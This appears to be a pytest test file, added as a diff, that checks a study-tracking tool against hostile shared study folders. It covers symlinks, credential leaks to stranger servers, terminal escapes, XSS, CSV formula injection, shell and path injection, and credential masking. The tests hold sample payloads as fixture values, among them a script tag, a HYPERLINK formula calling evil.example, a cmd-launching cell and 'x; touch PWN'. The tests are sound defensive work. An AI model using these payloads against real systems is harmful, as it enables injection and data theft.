@@ -1,0 +1,543 @@
+"""What somebody else puts into a study folder does no harm when its receiver runs commands on it."""
+
+import csv
+import io
+import json
+import os
+import shlex
+import shutil
+import socket
+import stat
+import tarfile
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from analysis.load import open_study
+from analysis.report import make_report, write
+from analysis.scaling.rerun import Rerun
+from analysis.status import StatusReader
+from study.certificate import export
+from study.certificate.making import make_certificate
+from study.console import SteadyConsole
+from study.errors import RecordError, StudyError, TrackingError
+from study.evaluating.command import Asked, evaluate_policy
+from study.evaluating.subject import Subject
+from study.harmless import csv_cell, from_csv_cell, markdown, printable
+from study.opening import RunOptions, new_identity, resumed_identity, write_identity
+from study.reporting import report_study
+from study.status_view import show
+from study.syncing import sync_study
+from study.tracking.files import write_atomically
+from study.tracking.folder import StudyFolder
+from study.tracking.mlflow_report import NOT_ASKED, asked_place
+from study.tracking.packing import pack
+from study.tracking.records import TrialEnded
+from study.tracking.state import check_files, ledger_of
+from study.tracking.table import read_table, write_table
+from study.tracking.tracking_uri import (
+    CLIENT_SETTINGS,
+    asked_uri,
+    check_asked_uri,
+    check_tracking_uri,
+    mask_credentials,
+)
+from study.tracking.trust import SIGNATURE, is_made_here
+from tests.spaces import spec
+from tests.synthetic import append, closed, make_folder, opened, started, whole_trial
+
+SCRIPT = "<script>alert(1)</script>"
+LINK = "[click](javascript:alert(1))"
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe"
+REASON = f"{FORMULA} {SCRIPT} {LINK} | {ESCAPES}"
+TOKEN = "PLANTED-token"
+
+
+@pytest.fixture
+def study(tmp_path) -> StudyFolder:
+    """A study of this user's, with a trial that ended well and one that failed for a malicious reason."""
+    folder = make_folder(tmp_path / "studies" / "demo", f"sqlite:///{tmp_path}/mlflow.db")
+    failed = TrialEnded(trial=1, attempt=1, status="failed", reason=REASON, summary={}, checkpoint=None)
+    append(folder, opened(), *whole_trial(0), started(1), failed, closed())
+    write_table(folder.table, ledger_of(folder.records).rows.values())
+    return folder
+
+
+@pytest.fixture
+def received(study, tmp_path) -> StudyFolder:
+    """The same study as somebody gets it who unpacks an archive: all of its files belong to them."""
+    with tarfile.open(tmp_path / "study.tar", "w") as archive:
+        archive.add(study.path, "received")
+    with tarfile.open(tmp_path / "study.tar") as archive:
+        archive.extractall(tmp_path)
+    return StudyFolder(tmp_path / "received")
+
+
+class Host:
+    """A web server that notes who asks it for what; it answers nothing useful, or redirects."""
+
+    def __init__(self, redirect_to: str | None = None) -> None:
+        self.asked: list[tuple[str, dict[str, str]]] = []
+        host = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                host.asked.append((self.path, dict(self.headers)))
+                self.send_response(404 if redirect_to is None else 307)
+                if redirect_to is not None:
+                    self.send_header("Location", redirect_to + self.path)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815 (the name that http.server asks for)
+
+            def log_message(self, *_: object) -> None:
+                pass
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.uri = f"http://127.0.0.1:{self._server.server_port}"
+        Thread(target=self._server.serve_forever, daemon=True).start()
+
+    def stop(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+@pytest.fixture
+def stranger(monkeypatch):
+    """A stranger's server, while this user's environment holds a token."""
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", TOKEN)
+    host = Host()
+    yield host
+    host.stop()
+
+
+def renamed(folder: StudyFolder, **changes: str) -> None:
+    content = json.loads(folder.identity_file.read_text())
+    folder.identity_file.write_text(json.dumps(content | changes))
+
+
+# --- links, pipes and other things that are no files (attacks 1 and 5) ---------------------------------------------
+
+COMMANDS = {
+    "report": lambda folder: report_study(str(folder.path), formats="csv"),
+    "pack": lambda folder: pack(folder, folder.path.parent / "packed"),
+    "sync": lambda folder: sync_study(folder, timeout_s=1),
+    "status": lambda folder: StatusReader(folder.path).read(),
+    "certificate": make_certificate,
+    "export": lambda folder: export.export_yaml(folder, 10),
+    "evaluate": lambda folder: evaluate_policy(Asked(path=folder.path, trial=0)),
+    "open_study": lambda folder: open_study(folder.path),
+    "resume": lambda folder: resumed_identity(folder, spec(), RunOptions(name="demo", out=folder.path.parent)),
+}
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+@pytest.mark.parametrize("place", ["space.yaml", "report", "report/tables", ".mirror.lock", "clips/best.json"])
+def test_no_command_follows_a_link_that_lies_in_a_study(study, tmp_path, command, place):
+    outside = tmp_path / "outside"
+    outside.write_text("private")
+    link = study.path / place
+    link.parent.mkdir(exist_ok=True)
+    link.unlink(missing_ok=True)
+    link.symlink_to(outside)
+    with pytest.raises(RecordError, match=r"must not be a symbolic link\. Fix: remove it"):
+        COMMANDS[command](study)
+    assert outside.read_text() == "private"
+    assert not (tmp_path / "studies" / "packed").exists()
+
+
+@pytest.mark.parametrize("kind", ["pipe", "socket"])
+@pytest.mark.parametrize("command", ["report", "status", "pack", "resume"])
+def test_no_command_waits_for_a_pipe_or_a_socket(study, command, kind, monkeypatch):
+    (study.path / "clips").mkdir()
+    monkeypatch.chdir(study.path / "clips")  # the names of sockets must be short
+    if kind == "pipe":
+        os.mkfifo("best.json")
+    else:
+        socket.socket(socket.AF_UNIX).bind("best.json")
+    with pytest.raises(RecordError, match=f"must be a file or a folder, got a {kind}"):
+        COMMANDS[command](study)
+
+
+def test_a_report_overwrites_no_file_that_a_link_below_its_folder_leads_to(study, tmp_path):
+    outside = tmp_path / ".bashrc"
+    outside.write_text("mine")
+    report, out = make_report(open_study(study.path)), tmp_path / "out"
+    for name in ("tables/T1.csv", "tables", "report.md", "figures"):
+        shutil.rmtree(out, ignore_errors=True)
+        (out / name).parent.mkdir(parents=True)
+        (out / name).symlink_to(outside if "." in name else tmp_path)
+        with pytest.raises(RecordError, match="symbolic link"):
+            write(report, out)
+        assert outside.read_text() == "mine"
+    assert not list(tmp_path.glob("T*.csv"))
+
+
+def test_the_person_s_own_links_to_a_study_or_an_output_folder_are_followed(study, tmp_path):
+    (tmp_path / "way").symlink_to(study.path)
+    (tmp_path / "big").mkdir()
+    (tmp_path / "out").symlink_to(tmp_path / "big")
+    report_study(str(tmp_path / "way"), formats="csv", out=tmp_path / "out")
+    assert list((tmp_path / "big" / "tables").iterdir())
+
+
+def test_a_private_file_known_by_a_second_name_is_neither_published_nor_written_to(study, tmp_path):
+    key = tmp_path / "id_ed25519"
+    key.write_text("PRIVATE KEY")
+    study.space_file.unlink()
+    os.link(key, study.space_file)
+    with pytest.raises(RecordError, match="hard link"):
+        pack(study, tmp_path / "packed")
+    assert not (tmp_path / "packed").exists()
+    with pytest.raises(RecordError, match=r"space\.yaml must have one name"):
+        check_files(study)
+
+
+def test_writing_replaces_a_link_and_is_not_misled_by_one_in_the_draft_s_place(tmp_path):
+    outside = tmp_path / "outside"
+    outside.write_text("private")
+    (tmp_path / "file").symlink_to(outside)
+    write_atomically(tmp_path / "file", "new")
+    assert (outside.read_text(), (tmp_path / "file").read_text()) == ("private", "new")
+    assert not (tmp_path / "file").is_symlink()
+
+
+def test_a_new_study_does_not_write_through_a_link_that_waits_in_its_folder(tmp_path):
+    outside = tmp_path / "outside"
+    outside.write_text("private")
+    folder = StudyFolder(tmp_path / "n")
+    folder.path.mkdir()
+    folder.space_file.symlink_to(outside)
+    with pytest.raises(RecordError, match="symbolic link"):
+        folder.prepare()
+    assert outside.read_text() == "private"
+
+
+def test_a_policy_whose_folder_holds_links_is_not_loaded(study, tmp_path):
+    checkpoint = study.checkpoint(0)
+    (checkpoint / "inner").mkdir(parents=True)
+    (checkpoint / "module_state.pkl").write_text("")
+    (checkpoint / "inner" / "deep").symlink_to(tmp_path)
+    with pytest.raises(RecordError, match="symbolic link"):
+        Subject(title="", checkpoint=checkpoint, spec=spec(), study=study, trial=0).check_owner()
+
+
+# --- whom MLflow's credentials and a study's results go to (attacks 2, 4 and 16) ------------------------------------
+
+
+@pytest.mark.parametrize("command", ["report", "sync", "status", "pack", "resume", "attach", "evaluate"])
+def test_a_server_that_only_a_folder_names_is_not_contacted(received, stranger, command, tmp_path):
+    renamed(received, tracking_uri=stranger.uri, optuna_storage="postgresql://x@127.0.0.1:1/x")
+    commands = COMMANDS | {"attach": lambda folder: report_study(str(folder.path), formats="csv", attach=True)}
+    try:
+        commands[command](received)
+    except StudyError as error:
+        assert command in ("sync", "resume", "attach", "evaluate")
+        assert TOKEN not in str(error)
+    assert stranger.asked == []
+
+
+@pytest.mark.parametrize("command", ["sync", "resume", "attach"])
+def test_what_a_received_study_needs_in_order_to_go_on_is_said(received, command):
+    commands = COMMANDS | {"attach": lambda folder: report_study(str(folder.path), formats="csv", attach=True)}
+    with pytest.raises(StudyError, match=r"named by its folder alone.*--tracking-uri"):
+        commands[command](received)
+
+
+def test_a_report_is_attached_where_the_person_asked_for_it_and_nowhere_else(study, monkeypatch):
+    own = study.identity().tracking_uri
+    assert asked_place(study, None, attach=False) is None
+    assert asked_place(study, None, attach=True) == own
+    assert asked_place(study, "sqlite:///named.db", attach=False) == "sqlite:///named.db"
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", "sqlite:///surroundings.db")
+    assert asked_place(study, None, attach=False) == "sqlite:///surroundings.db"
+    assert asked_place(study, "sqlite:///named.db", attach=True) == "sqlite:///named.db"
+
+
+def test_a_report_without_a_wish_says_how_to_attach_it(study):
+    assert report_study(str(study.path), formats="csv").attached == NOT_ASKED
+    assert not Path(study.identity().tracking_uri.removeprefix("sqlite:///")).exists()
+
+
+def test_the_variable_of_mlflow_s_users_is_the_default(monkeypatch, tmp_path):
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/theirs.db")
+    options = RunOptions(name="demo")
+    assert new_identity(spec(), options).tracking_uri == f"sqlite:///{tmp_path}/theirs.db"
+    assert asked_uri("sqlite:///named.db") == "sqlite:///named.db"
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", "./mlruns")
+    with pytest.raises(TrackingError, match=r"^MLFLOW_TRACKING_URI \(environment\): .*no file store"):
+        check_asked_uri(None)
+
+
+@pytest.mark.parametrize("named", [None, "MLFLOW_TRACKING_URI"])
+def test_one_s_own_study_goes_on_in_its_own_mlflow(study, monkeypatch, named):
+    if named:
+        monkeypatch.setenv(named, "sqlite:///another.db")
+    assert resumed_identity(study, spec(), RunOptions(name="demo", resume=True)) == study.identity()
+
+
+def test_a_study_from_elsewhere_goes_on_in_an_mlflow_that_the_person_names(received, tmp_path):
+    renamed(received, optuna_storage="postgresql://x@127.0.0.1:1/x")
+    uri, notes = f"sqlite:///{tmp_path}/mine.db", []
+    options = RunOptions(name="demo", resume=True, tracking_uri=uri)
+    identity = resumed_identity(received, spec(), options)
+    assert (identity.tracking_uri, identity.optuna_storage) == (uri, None)
+    write_identity(received, identity, options, resumed=True, note=notes.append)
+    assert received.identity() == identity
+    assert is_made_here(received.identity_file)
+    assert len(notes) == 1
+    assert "not used" in notes[0]
+
+
+def test_the_same_command_goes_on_after_a_move_where_it_names_the_same_mlflow(received):
+    options = RunOptions(name="demo", resume=True, tracking_uri=received.identity().tracking_uri)
+    assert resumed_identity(received, spec(), options) == received.identity()
+
+
+def test_only_the_folder_that_was_started_here_counts_as_one_s_own(study, received, tmp_path, monkeypatch):
+    assert is_made_here(study.identity_file)
+    assert (received.path / SIGNATURE).exists()
+    assert not is_made_here(received.identity_file), "unpacked"
+    assert not is_made_here(Path(shutil.copytree(study.path, tmp_path / "copy")) / "study.json"), "copied"
+    moved = study.path.rename(tmp_path / "moved")
+    assert is_made_here(moved / "study.json"), "moved on one disk: still the same file"
+    with (moved / "study.json").open("a") as file:
+        file.write(" ")
+    assert not is_made_here(moved / "study.json"), "changed in place"
+
+
+def test_a_signature_of_another_user_s_key_says_nothing(study, tmp_path, monkeypatch):
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
+    assert not is_made_here(study.identity_file)
+    key = tmp_path / "another" / "runner-scaling-study" / "key"
+    assert stat.S_IMODE(key.stat().st_mode) == 0o600
+    key.chmod(0o644)
+    study.rewrite(study.identity())
+    assert not is_made_here(study.identity_file), "a key that others can read proves nothing"
+
+
+def test_without_a_place_for_the_key_a_study_is_started_all_the_same(tmp_path, monkeypatch):
+    (tmp_path / "file").write_text("")
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
+    folder = make_folder(tmp_path / "demo", f"sqlite:///{tmp_path}/mlflow.db")
+    assert folder.identity().name == "demo"
+    assert not is_made_here(folder.identity_file)
+
+
+def test_a_module_that_only_a_folder_names_is_not_imported(received, tmp_path, monkeypatch):
+    content = json.loads(received.identity_file.read_text())
+    content["spec"]["environment"]["id"] = "attack:Env"
+    received.identity_file.write_text(json.dumps(content))
+    (tmp_path / "attack.py").write_text("raise SystemExit('the module ran')")
+    monkeypatch.syspath_prepend(tmp_path)
+    monkeypatch.setattr("study.evaluating.subject.Subject.check_owner", lambda self: None)
+    with pytest.raises(RecordError, match=r"must not be imported.*attack:Env.*--space SPACE"):
+        evaluate_policy(Asked(path=received.path, trial=0))
+
+
+@pytest.mark.parametrize("credentials", [{"MLFLOW_TRACKING_TOKEN": TOKEN}, {}])
+def test_the_probe_takes_no_credentials_to_another_host(stranger, monkeypatch, credentials):
+    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
+    for name, value in credentials.items():
+        monkeypatch.setenv(name, value)
+    named = Host(redirect_to=stranger.uri)
+    try:
+        with pytest.raises(TrackingError, match=rf"redirect \(HTTP 307\) to {stranger.uri}/"):
+            check_tracking_uri(named.uri)
+    finally:
+        named.stop()
+    assert len(named.asked) == 1
+    assert stranger.asked == []
+
+
+def test_mlflow_s_client_takes_no_credentials_to_another_host(stranger, monkeypatch):
+    from mlflow import MlflowClient
+
+    for name, value in CLIENT_SETTINGS.items():
+        monkeypatch.setenv(name, value)
+    named = Host(redirect_to=stranger.uri)
+    try:
+        with pytest.raises(Exception, match=r"."):
+            MlflowClient(tracking_uri=named.uri).search_experiments()
+    finally:
+        named.stop()
+    assert named.asked
+    assert stranger.asked == []
+
+
+# --- what is printed and written (attacks 6 and 8 to 11) --------------------------------------------------------------
+
+
+def test_a_suggested_command_is_one_command_whatever_a_study_is_called():
+    rerun = Rerun(space="my space'; touch PWN.yaml", study="x; touch PWN")
+    words = shlex.split(rerun.command([]))
+    assert words[:6] == ["python", "run_study.py", "--space", rerun.space, "--name", "x; touch PWN_missing"]
+    assert all(word == "--set" or "=" in word for word in words[6:])
+
+
+def on_terminal(**settings: object) -> tuple[SteadyConsole, io.StringIO]:
+    file = io.StringIO()
+    return SteadyConsole(file=file, force_terminal=True, width=300, **settings), file
+
+
+def test_no_escape_code_of_a_record_reaches_the_terminal(study):
+    from analysis.status.efficiency import efficiency_so_far
+
+    console, file = on_terminal(color_system=None)
+    reader = StatusReader(study.path)
+    show(console, reader.read(), efficiency_so_far(reader))
+    text = file.getvalue()
+    assert "HYPERLINK" in text, "the reason is not shown at all"
+    assert printable(text) == text
+
+
+def test_the_console_keeps_its_own_colours_and_reads_no_markup_in_texts():
+    console, file = on_terminal(color_system="standard")
+    console.print(f"[link=http://evil.example]x[/link] {ESCAPES}", style="bold", highlight=False)
+    text = file.getvalue()
+    assert text.startswith("\x1b[1m")
+    assert "[link=http://evil.example]x[/link]" in text
+    assert not any(mark in text for mark in ("\x1b]", "\x1b[2J", "\x9b", "\x07", "\u202e"))
+
+
+def test_every_place_that_prints_goes_through_the_cleaned_console():
+    sources = [*Path("study").rglob("*.py"), *Path("analysis").rglob("*.py")]
+    plain = "rich.console import Console"
+    users = [file for file in sources if "= Console(" in (text := file.read_text()) and plain in text]
+    assert users == []
+    allowed = {"console.py", "signals.py", "options.py"}  # options.py asks whether there is a terminal
+    writers = [file for file in sources if "sys.stdout.write(" in file.read_text() and file.name not in allowed]
+    assert [file for file in writers if file.parent.name != "launch"] == []
+
+
+def test_a_report_holds_no_script_no_link_and_no_formula_of_a_record(study, tmp_path):
+    files = write(make_report(open_study(study.path)), tmp_path / "out")
+    for file in files:
+        if file.suffix in (".md", ".html", ".svg"):
+            text = file.read_text()
+            assert "<script" not in text
+            assert file.suffix != ".md" or "](javascript:" not in text
+            assert printable(text) == text
+    for file in (each for each in files if each.suffix == ".csv"):
+        lines = file.read_text().splitlines()
+        for row in csv.reader(lines):
+            assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), file
+    assert any("&lt;script" in file.read_text() for file in files if file.suffix == ".md"), "the reason is in no table"
+
+
+@pytest.mark.parametrize(
+    "text", [SCRIPT, "<img src=x onerror=y>", "<!--", "<http://evil.example>", LINK, "![x](http://e)", "[a]: http://e"]
+)
+def test_markdown_shows_tags_and_links_as_they_are_written(text):
+    shown = markdown(f"\\{text}")
+    assert "<" not in shown
+    assert not any(mark in shown for mark in ("](", "]:"))
+    assert markdown("n < 5, 0.9 [0.8, 1.0] (n=3)") == "n < 5, 0.9 [0.8, 1.0] (n=3)"
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "a;=1"])
+def test_no_cell_begins_with_a_formula_in_any_locale(text):
+    for part in csv_cell(text).replace("\t", ";").replace("\r", ";").split(";"):
+        assert part[:1] not in ("=", "+", "-", "@", "\uff1d")
+
+
+@given(st.one_of(st.text(alphabet="'=+-@,; \t\r\n1ae.\uff1d", max_size=12), st.text(), st.floats().map(str)))
+def test_a_cell_is_read_back_as_it_was(text):
+    assert from_csv_cell(csv_cell(text)) == text
+
+
+@pytest.mark.parametrize("number", ["-88.9", "1e-05", "-inf", "nan", "+3", "0"])
+def test_numbers_stay_numbers(number):
+    assert csv_cell(number) == number
+
+
+def test_the_table_of_trials_is_read_back_unchanged(study):
+    raw = study.table.read_text()
+    assert "\n=" not in raw.replace(",", "\n")
+    assert [row["reason"] for row in read_table(study.table)] == ["", printable(REASON)]
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("http://user:p@ss@host/x", "http://***@host/x"),
+        ("postgresql://u:p/w@h/db?password=abc&x=1", "postgresql://***@h/db?password=***&x=1"),
+        ("http://token@host/x", "http://***@host/x"),
+        ("https://h/x?token=abc&y=2", "https://h/x?token=***&y=2"),
+        ("https://h/x?access_token=abc", "https://h/x?access_token=***"),
+        ("Driver=x;UID=me;PWD=secret;Y=2", "Driver=x;UID=me;PWD=***;Y=2"),
+        ("Driver=x;PWD={my;secret};Y=2", "Driver=x;PWD=***;Y=2"),
+        ("mssql+pyodbc:///?odbc_connect=UID%3Dme%3BPWD%3Dsecret%3BX%3D1", None),
+        ("host=h user=u password='a b' dbname=x", "host=h user=u password=*** dbname=x"),
+        ("MLFLOW_TRACKING_TOKEN=abc run", "MLFLOW_TRACKING_TOKEN=*** run"),
+        ('{"password": "x y"}', '{"password": ***}'),
+        ("Authorization: Bearer abcdefgh12345678", "Authorization: Bearer ***"),
+        ("sqlite:////home/me@site/mlflow.db", "sqlite:////home/me@site/mlflow.db"),
+        (
+            "--set parameters.minibatch_size=64 keepalives_idle=10",
+            "--set parameters.minibatch_size=64 keepalives_idle=10",
+        ),
+    ],
+)
+def test_passwords_and_tokens_are_masked(text, shown):
+    assert mask_credentials(text) == (shown or text.replace("secret", "***"))
+
+
+@pytest.mark.parametrize(
+    "part", ["postgres", "postgres://", "://a@", "password", "?password=", 'password="', "PWD={", "a=", "Bearer ", " "]
+)
+def test_masking_takes_a_time_that_grows_with_the_text_and_no_faster(part):
+    text = part * (1_000_000 // len(part))
+    began = time.process_time()
+    mask_credentials(text)
+    assert time.process_time() - began < 10, "quadratic: hours, or minutes at least"
+
+
+# --- identities and folders (attacks 13 and 15) ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [{"name": name} for name in ("..", ".", "../x", "a/b", "x; touch PWN", "-rf", "", "a\nb", "a" * 101)]
+    + [{"study_id": value} for value in ("", "x' or '1'='1", "../x", "a" * 65)],
+)
+def test_names_that_are_paths_commands_or_queries_are_refused_when_a_study_is_read(study, changes):
+    renamed(study, **changes)
+    with pytest.raises(RecordError, match=r"must be a study's identity, got a damaged file \((name|study_id)"):
+        study.identity()
+
+
+@pytest.mark.parametrize("name", ["..", ".", "-x", "a/../..", "~"])
+def test_a_report_of_an_experiment_stays_in_its_folder_whatever_it_is_called(name):
+    from study.reporting import STUDIES, folder_of_experiment
+
+    out = folder_of_experiment(name)
+    assert out.parent.parent == STUDIES
+    assert ".." not in out.parts
+    assert out.parent.name not in ("", ".", "..")
+
+
+def test_a_folder_that_was_open_to_others_is_narrowed(tmp_path):
+    folder = StudyFolder(tmp_path / "n")
+    folder.path.mkdir(mode=0o755)
+    folder.path.chmod(0o755)
+    folder.prepare()
+    assert stat.S_IMODE(folder.path.stat().st_mode) == 0o700
+
+
+def test_an_exported_script_holds_no_code_of_a_study_s_folder():
+    harmful = spec().model_copy(update={"rllib": {"training": {"x=1); import os; dict(y": 1}}})
+    with pytest.raises(StudyError, match="become names in the script"):
+        export._check_rllib_can(harmful)
+    export._check_rllib_can(replace_rllib({"training": {"use_kl_loss": True}}))
+
+
+def replace_rllib(rllib):
+    return spec().model_copy(update={"rllib": rllib})
